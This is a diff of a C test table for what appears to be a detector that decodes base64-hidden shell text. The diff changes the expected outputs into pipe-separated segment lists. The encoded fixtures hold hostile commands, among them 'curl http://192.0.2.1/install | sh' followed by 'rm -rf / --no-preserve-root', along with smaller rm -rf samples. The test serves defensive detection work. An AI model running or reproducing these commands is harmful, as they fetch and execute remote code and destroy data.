@@ -23,17 +23,23 @@ static const struct row {
      "echo "
       "'Y3VybCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwgfCBzaDsgcm0gLXJmIC8gLS1uby1wcmVzZXJ2\\nZS1yb290OyBlY2hvIG5vYm9keSB3aWxs"
       "IHJlYWQgYXMgZmFyIGFzIHRoaXMgbGluZQ==' | base64 -d",                                                                      AIS_TEXT_BASE64,
-     "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"                                                             },
+     "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"
+      "|curl http://192.0.2.1/install | sh; rm -rf / --no-preserv|e-root; echo nobody will read as far as this line"                                                          },
     { "base64 wrapped as in a letter",
      "Y3VybCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwgfCBzaDsgcm0gLXJmIC8gLS1u\\r\\nby1wcmVzZXJ2ZS1yb290OyBlY2hvIG5vYm9keSB3aW"
       "xsIHJlYWQgYXMgZmFyIGFz\\r\\nIHRoaXMgbGluZQ==",                                                                           AIS_TEXT_BASE64,
-     "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"                                                             },
-    { "base64 in short lines",               "cm0gLXJm\\n  IC94OyBl\\n  Y2hvIGRv\\n  bmU=",                                     AIS_TEXT_BASE64, "rm -rf /x; echo done"       },
+     "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"
+      "|curl http://192.0.2.1/install | sh; rm -rf / --n|o-preserve-root; echo nobody will read as far as this line"
+      "|o-preserve-root; echo nobody will read as far as"                                                                                                                     },
+    { "base64 in short lines",               "cm0gLXJm\\n  IC94OyBl\\n  Y2hvIGRv\\n  bmU=",                                     AIS_TEXT_BASE64,
+     "rm -rf /x; echo done| /x; echo done"                                                                                                                                    },
     { "base64 in uneven lines",              "cm0\\ngLXJmI\\nC94OyB\\nlY2hvIGRvbmU=",                                           AIS_TEXT_BASE64, "rm -rf /x; echo done"       },
     { "base64 with escapes for line breaks", "$'cm0gLXJm\\\\nIC94OyBl\\\\nY2hvIGRv\\\\nbmU='",                                  AIS_TEXT_BASE64,
      "rm -rf /x; echo done"                                                                                                                                                   },
+    { "base64, a record a line",             "dGhlIGliYW4gaXMgZ2I4MiB3ZXN0IDEy\\nd29yZHMgb2YgYSBzZWNvbmQgcmVjb3Jk",             AIS_TEXT_BASE64,
+     "the iban is gb82 west 12words of a second record|the iban is gb82 west 12|words of a second record"                                                                     },
     { "base64 behind a continued line",      "cm0gLXJm\\\\\\nIC94OyBl\\\\\\nY2hvIGRv\\\\\\nbmU=",                               AIS_TEXT_BASE64,
-     "rm -rf /x; echo done"                                                                                                                                                   },
+     "rm -rf /x; echo done| /x; echo done"                                                                                                                                    },
     { "a line of base64 below a word",       "payload\\ncm0gLXJmIC94OyBlY2hvIGRvbmU=",                                          AIS_TEXT_BASE64,
      "rm -rf /x; echo done"                                                                                                                                                   },
     { "base64, a line of each alphabet",     "ZWNobyBoZWxsbzsg\\nPj4-Pz8_IHJtIC1yZiAvIA",                                       AIS_TEXT_BASE64,
